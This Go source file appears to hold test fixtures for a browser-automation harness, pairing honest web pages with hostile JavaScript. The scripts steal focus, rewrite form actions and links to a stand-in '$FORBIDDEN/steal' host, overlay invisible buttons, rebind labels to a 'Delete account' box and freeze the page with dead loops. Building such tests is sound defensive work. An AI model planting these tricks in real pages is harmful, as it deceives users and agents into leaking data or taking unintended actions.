package hostilesite

var keys = []Shape{
	{Name: "honest field", Body: field, Kind: "type", Target: "Title", Value: "hello", Done: true},
	{Name: "focus stolen at focus", Body: field, Later: `a.onfocus = () => b.focus()`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "focus stolen after focus", Body: field, Later: `a.onfocus = () => setTimeout(() => b.focus())`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "focus stolen all the time", Body: field, Later: `setInterval(() => b.focus(), 1)`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "focus stolen when text is selected", Body: field, Later: `a.onselect = () => b.focus(); document.onselectionchange = () => b.focus()`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "focus stolen before the text", Body: field, Later: `a.onbeforeinput = () => b.focus()`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "autofocus that comes later", Body: field, Later: `const n = document.createElement('input'); n.autofocus = true; n.oninput = () => tell('bad thief'); document.body.append(n); n.focus()`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "Enter in a form", Body: form + `<form action="/do/$ID/ok"><input aria-label=Query></form>`, Kind: "press", Target: "Query", Value: "Enter", Done: true},
	{Name: "focus stolen at keydown", Body: `<form action="/do/$ID/ok"><input id=a aria-label=Query></form><form action="/do/$ID/bad"><input id=b aria-label=Amount value=100></form>`,
		Later: `a.onkeydown = () => b.focus()`, Kind: "press", Target: "Query", Value: "Enter"},
	{Name: "Space moved to another button", Body: two, Later: `a.onkeydown = () => b.focus()`, Kind: "press", Target: "Save", Value: "Space"},
	{Name: "Enter moved to another button", Body: two, Later: `a.onkeydown = () => b.focus()`, Kind: "press", Target: "Save", Value: "Enter"},
	{Name: "field becomes a password", Body: field, Later: `a.type = 'password'`, Kind: "type", Target: "Title", Value: "hello", Silent: true},
	{Name: "field becomes a password at focus", Body: field, Later: `a.onfocus = () => { a.type = 'password'; }`, Kind: "type", Target: "Title", Value: "hello", Silent: true},
	{Name: "field becomes a code at focus", Body: field, Later: `a.onfocus = () => { a.autocomplete = 'one-time-code'; }`, Kind: "type", Target: "Title", Value: "hello", Silent: true},
	{Name: "field relabelled at focus", Body: `<label><span id=s>Title</span> <input id=a oninput="tell('bad')"></label>`, Later: `a.onfocus = () => { s.textContent = 'Amount'; }`, Kind: "type", Target: "Title", Value: "100", Silent: true},
	{Name: "field swallows the text", Body: field, Later: `a.oninput = () => { a.value = ''; tell('ok'); }`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "editor swapped", Body: `<div id=a contenteditable aria-label=Letter oninput="tell('ok')">x</div><div id=b contenteditable oninput="tell('bad')">y</div>`,
		Later: `const n = a.cloneNode(true); n.oninput = () => tell('bad copy'); a.replaceWith(n)`, Kind: "type", Target: "Letter", Value: "hello", Silent: true},
	{Name: "editor swapped at focus", Body: `<div id=a contenteditable aria-label=Letter oninput="tell('ok')">x</div><div id=b contenteditable aria-label=Other oninput="tell('bad')">y</div>`,
		Later: `a.onfocus = () => { a.contentEditable = false; b.focus(); }`, Kind: "type", Target: "Letter", Value: "hello"},
}

var forms = []Shape{
	{Name: "honest form", Body: form, Done: true},
	{Name: "action rewritten", Body: form, Later: `f.action = '/do/$ID/bad'`, Silent: true},
	{Name: "method rewritten", Body: form, Later: `f.method = 'get'`, Silent: true},
	{Name: "button that sends elsewhere", Body: form, Later: `a.formAction = '/do/$ID/bad'`, Silent: true},
	{Name: "button of another form", Body: form + `<form id=g method=post action="/do/$ID/bad"></form>`, Later: `a.setAttribute('form', 'g')`, Silent: true},
	{Name: "action rewritten on submit", Body: form, Later: `f.onsubmit = () => { f.action = '$FORBIDDEN/steal'; }`, Silent: true},
	{Name: "action rewritten on mousedown", Body: form, Later: `a.onmousedown = () => { f.action = '$FORBIDDEN/steal'; }`, Silent: true},
	{Name: "action rewritten by formdata", Body: form, Later: `f.onformdata = () => { f.action = '$FORBIDDEN/steal'; }`},
	{Name: "action of the button rewritten on click", Body: form, Later: `a.onclick = () => { a.formAction = '$FORBIDDEN/steal'; }`, Silent: true},
	{Name: "sent to a new window", Body: form, Later: `f.onsubmit = () => { f.action = '$FORBIDDEN/steal'; f.target = '_blank'; }`, Silent: true},
	{Name: "sent by another form", Body: form, Later: `f.onsubmit = (e) => { e.preventDefault(); const g = f.cloneNode(true); g.action = '$FORBIDDEN/steal'; document.body.append(g); g.submit(); }`, Silent: true},
	{Name: "base rewritten", Body: `<form method=post action="do/$ID/ok"><button>Save</button></form>`, Later: `const n = document.createElement('base'); n.href = '$FORBIDDEN/'; document.head.append(n)`, Silent: true},
	{Name: "base rewritten on mousedown", Body: `<a id=a href="../do/$ID/ok">Save</a>`, Later: `a.onmousedown = () => { const n = document.createElement('base'); n.href = '$FORBIDDEN/x/'; document.head.append(n); }`, Silent: true},
	{Name: "link rewritten", Body: `<a id=a href="/do/$ID/ok">Save</a>`, Later: `a.href = '/do/$ID/bad'`, Silent: true},
	{Name: "link rewritten on mousedown", Body: `<a id=a href="/do/$ID/ok" ping="$FORBIDDEN/ping">Save</a>`, Later: `a.onmousedown = () => { a.href = '$FORBIDDEN/steal'; }`, Silent: true},
	{Name: "link to a window that is forbidden", Body: `<a id=a href="/do/$ID/ok">Save</a>`, Later: `a.onmousedown = () => { a.href = '$FORBIDDEN/steal'; a.target = '_blank'; a.rel = 'noopener'; }`, Silent: true},
	{Name: "location on click", Body: two, Later: `a.onclick = () => { tell('ok'); open('$FORBIDDEN/open'); location = '$FORBIDDEN/steal'; }`},
	{Name: "form in a closed root", Body: `<x-f></x-f><script>const root = document.querySelector('x-f').attachShadow({ mode: 'closed' }); root.innerHTML = '<form method=post action="/do/$ID/ok"><button>Save</button></form>'</script>`, Done: true},
	{Name: "form in a closed root rewritten", Body: `<x-f></x-f><script>const root = document.querySelector('x-f').attachShadow({ mode: 'closed' }); root.innerHTML = '<form method=post action="/do/$ID/ok"><button>Save</button></form>'</script>`,
		Later: `root.firstChild.action = '/do/$ID/bad'`, Silent: true},
	{Name: "closed root over it", Body: two, Later: `const n = document.createElement('x-f'); n.style = 'position:absolute;left:50px;top:50px'; n.attachShadow({ mode: 'closed' }).innerHTML = '<form method=post action="/do/$ID/bad"><button style="width:200px;height:50px;opacity:0"></button></form>'; document.body.append(n)`},
	{Name: "image map over it", Body: two + `<map name=m><area shape=rect coords="0,0,400,100" href="/do/$ID/bad" alt=Rules></map>`, Later: `const n = document.createElement('img');
		n.useMap = '#m'; n.style = 'position:absolute;left:50px;top:50px;z-index:9'; n.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"/>'; document.body.append(n)`},
	{Name: "image map in it", Body: `<map name=m><area id=m shape=rect coords="0,0,200,50" nohref></map><button id=a onclick="tell('ok')" style="padding:0"><img alt=Save width=200 height=50 usemap=#m
		src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='200' height='50'/>"></button>`, Later: `m.href = '/do/$ID/bad'`},
	{Name: "drawn link", Body: drawn, Done: true},
	{Name: "drawn link rewritten", Body: drawn, Later: `a.setAttribute('href', '/do/$ID/bad')`, Silent: true},
	{Name: "drawn link that an animation rewrites", Body: drawn, Later: `const n = document.createElementNS('http://www.w3.org/2000/svg', 'set'); n.setAttribute('attributeName', 'href'); n.setAttribute('to', '/do/$ID/bad'); a.append(n)`, Silent: true},
	{Name: "drawn link used again over it", Body: two + `<svg style="position:absolute;left:50px;top:50px;z-index:9" width=200 height=50><defs><a id=l href="/do/$ID/bad"><rect width=200 height=50 fill=transparent /></a></defs></svg>`,
		Later: `const n = document.createElementNS('http://www.w3.org/2000/svg', 'use'); n.setAttribute('href', '#l'); document.querySelector('svg').append(n)`, Silent: true},
}

const (
	drawn = `<svg width=200 height=50><a id=a href="/do/$ID/ok" aria-label=Save><rect width=200 height=50 fill=green /></a></svg>`
)

const (
	boxes = `<div style="position:relative;width:200px;height:40px"><input id=a type=checkbox aria-label=News onchange="tell('ok')"><label id=l for=a style="position:absolute;inset:0;background:#9cf"></label></div>
		<p><input id=b type=checkbox aria-label="Delete account" onchange="tell('bad')">`
	list = `<select id=a aria-label=Urgency onchange="tell(a.selectedOptions[0].dataset.w)"><option>None<option value=1 data-w=ok>Low<option value=2 data-w="bad high">High</select>`
)

var choices = []Shape{
	{Name: "honest label", Body: boxes, Kind: "check", Target: "News", Done: true},
	{Name: "label bound to another box", Body: boxes, Later: `l.htmlFor = 'b'`, Kind: "check", Target: "News"},
	{Name: "label bound to another box under the finger", Body: boxes, Later: `l.onpointerdown = () => { l.htmlFor = 'b'; }`, Kind: "check", Target: "News"},
	{Name: "label bound to another box on click", Body: boxes, Later: `l.onclick = () => { l.htmlFor = 'b'; }`, Kind: "check", Target: "News"},
	{Name: "label bound to a box that takes its id", Body: boxes, Later: `a.id = 'old'; b.id = 'a'`, Kind: "check", Target: "News"},
	{Name: "box that unchecks itself", Body: boxes, Later: `document.getElementById('a').onclick = (e) => e.preventDefault()`, Kind: "check", Target: "News"},
	{Name: "honest list", Body: list, Kind: "select", Target: "Urgency", Value: "Low", Done: true},
	{Name: "option renamed", Body: list, Later: `a.options[1].text = 'High'; a.options[2].text = 'Low'`, Kind: "select", Target: "Urgency", Value: "Low", Silent: true},
	{Name: "options in another order", Body: list, Later: `a.insertBefore(a.options[2], a.options[1])`, Kind: "select", Target: "Urgency", Value: "Low"},
	{Name: "value of an option swapped", Body: list, Later: `[a.options[1].value, a.options[2].value] = ['2', '1']`, Kind: "select", Target: "Urgency", Value: "1", Silent: true},
	{Name: "option renamed at focus", Body: list, Later: `a.onfocus = () => { a.options[1].text = 'High'; a.options[2].text = 'Low'; }`, Kind: "select", Target: "Urgency", Value: "Low", Silent: true},
	{Name: "choice undone", Body: list, Later: `a.oninput = () => { a.selectedIndex = 0; a.options[0].dataset.w = 'ok'; }`, Kind: "select", Target: "Urgency", Value: "Low"},
}

var places = []Shape{
	{Name: "disabled at last", Body: two, Later: `a.disabled = true`, Silent: true},
	{Name: "enabled at last", Body: two + `<script>a.disabled = true</script>`, Later: `a.disabled = false`, Silent: true},
	{Name: "disabled under the finger", Body: two, Later: `a.onpointerdown = () => { a.disabled = true; }`},
	{Name: "contents without a box", Body: `<button style="display:contents" onclick="tell('ok')"><span style="display:inline-block;width:200px;height:50px">Save</span></button>`},
	{Name: "without a box at last", Body: two, Later: `a.style.display = 'contents'`},
	{Name: "of no size", Body: two, Later: `a.style.cssText = 'width:0;height:0;padding:0;border:0;overflow:hidden'`, Silent: true},
	{Name: "not there for the mouse", Body: two, Later: `a.style.pointerEvents = 'none'; document.body.onclick = () => tell('bad ground'); document.body.style.height = '600px'`, Silent: true},
	{Name: "hidden", Body: two, Later: `a.hidden = true`, Silent: true},
	{Name: "inert", Body: two, Later: `a.inert = true`, Silent: true},
	{Name: "removed", Body: two, Later: `a.remove()`, Silent: true},
	{Name: "moved to another document", Body: two + `<iframe id=i srcdoc="<p>"></iframe>`, Later: `i.contentDocument.body.append(a)`, Silent: true},
	{Name: "moved into a closed root with another button on it", Body: two, Later: `const n = document.createElement('x-h'); document.body.append(n); const r = n.attachShadow({ mode: 'closed' }); r.append(a); b.style.cssText = 'position:absolute;inset:0;width:100%;height:100%'; r.append(b)`},
}

const inner = `<iframe id=i srcdoc="<button onclick='parent.tell(&quot;ok&quot;)' style='width:200px;height:50px'>Save</button>"></iframe>`

var documents = []Shape{
	{Name: "honest frame", Body: inner, Done: true},
	{Name: "frame that goes to another origin", Body: inner, Later: `i.removeAttribute('srcdoc'); i.src = '$FRAMED/bad/$ID'`},
	{Name: "frame that goes to another page", Body: inner, Later: `i.removeAttribute('srcdoc'); i.src = '/bad/$ID'`},
	{Name: "frame that goes elsewhere under the finger", Body: inner, Later: `i.contentDocument.onpointerdown = () => { i.removeAttribute('srcdoc'); i.src = '/bad/$ID'; }`},
	{Name: "page that goes elsewhere", Body: two, Later: `location = '/bad/$ID'`},
	{Name: "page that goes elsewhere at mouseover", Body: two, Later: `a.onmouseover = () => { location = '/bad/$ID'; }`},
	{Name: "page that goes elsewhere under the finger", Body: two, Later: `a.onpointerdown = () => { location = '/bad/$ID'; }`},
	{Name: "page that goes elsewhere at focus", Body: field, Later: `a.onfocus = () => { location = '/bad/$ID'; }`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "document written anew at mouseover", Body: two, Later: `a.onmouseover = () => { document.open(); document.write('<body style="margin:0"><button style="width:100vw;height:100vh" onclick="parent.told()">Delete</button>'); document.close(); document.querySelector('button').onclick = () => tell('bad'); }`},
	{Name: "address rewritten", Body: two, Later: `history.replaceState(null, '', '/bad/$ID')`, Silent: true},
}

// endless are pages that do not let go; each may cost a browser.
var endless = []Shape{
	{Name: "dialogs in a loop", Body: two, Later: `a.onclick = () => { tell('ok'); for (let i = 0; i < 40; i++) { if (confirm('Delete all?') || prompt('Really?')) tell('bad'); alert('Done'); } }`},
	{Name: "effect and then a dead loop", Body: two, Later: `a.onclick = () => { tell('ok'); for (;;); }`},
	{Name: "dead loop at mousedown", Body: two, Later: `a.onmousedown = () => { for (;;); }`},
	{Name: "dead loop at input", Body: field, Later: `a.oninput = () => { tell('ok'); for (;;); }`, Kind: "type", Target: "Title", Value: "hello"},
	{Name: "dead loop at focus", Body: field, Later: `a.onfocus = () => { for (;;); }`, Kind: "type", Target: "Title", Value: "hello"},
}
